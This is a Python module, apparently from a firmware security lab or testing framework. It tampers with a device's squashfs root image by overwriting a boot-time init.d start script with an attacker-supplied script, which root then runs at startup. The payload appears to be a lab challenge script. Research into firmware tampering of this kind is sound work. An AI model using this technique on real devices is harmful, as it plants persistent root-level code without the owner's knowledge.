"""A start script of the device's root that is the attacker's own: root runs it before anything else serves."""

from firmward.formats.squashfs import Read
from firmward.lab.attacks import Unseen
from firmward.lab.means import squashfs
from firmward.lab.means.program import script
from firmward.lab.means.squashfs import Patch
from firmward.lab.target import Target

ROOT = "root_a"
FOLDER = "etc/init.d"
STARTED = "S"
"""How the names of scripts begin that run when the system starts."""


def reader(target: Target) -> Read:
    """The root that the device starts from, as it lies on the disk."""
    return lambda at, size: target.read(ROOT, size, at)


def changed(target: Target) -> tuple[str, Patch]:
    """The first one that has room for his program, and what has to be written. Raises Unseen where none has."""
    own = script(target.challenge).encode()
    read = reader(target)
    for name in squashfs.names(read, FOLDER):
        if name.startswith(STARTED):
            try:
                return f"/{FOLDER}/{name}", squashfs.rewritten(read, f"{FOLDER}/{name}", lambda _: own)
            except Unseen:
                continue  # too short, or its block would grow
    raise Unseen(f"no start script in /{FOLDER} has room for {len(own)} bytes")
